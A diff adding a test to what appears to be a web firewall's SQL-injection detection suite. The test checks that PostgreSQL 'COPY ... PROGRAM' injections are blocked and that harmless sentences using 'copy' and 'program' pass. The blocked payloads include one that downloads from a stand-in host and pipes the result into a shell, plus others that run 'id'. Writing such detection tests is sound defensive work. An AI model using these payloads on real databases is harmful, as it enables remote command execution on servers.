@@ -100,6 +100,15 @@ class SQLiTests(ClassCase):
         self.blocked(Request(b"POST", b"/post", BROWSER + [
             (b"Content-Type", b"application/x-www-form-urlencoded")], b"Compress%20%28"), "sqli")
 
+    def test_copy_program(self) -> None:
+        """PostgreSQL's COPY that runs a command, of a table or of a query, with or without ';'."""
+        for payload in ("1'; COPY (SELECT '') TO PROGRAM 'curl x.example|sh'--",
+                        "x' copy cmd_exec from program 'id'--", "COPY t(c) FROM PROGRAM $$id$$"):
+            self.blocked(query(payload), "sqli")
+        for text in ("please copy the files to the program folder",
+                     "Copy this text to the program 'Notepad' and save it"):
+            self.passes(query(text))
+
     def test_expression_lookalikes(self) -> None:
         """English words before a parenthesis, code that ends in ';, versions and decimals."""
         for text in ("Left (driver side)", "Trim (optional)", "Upper (3rd floor)", "count (approx.)",
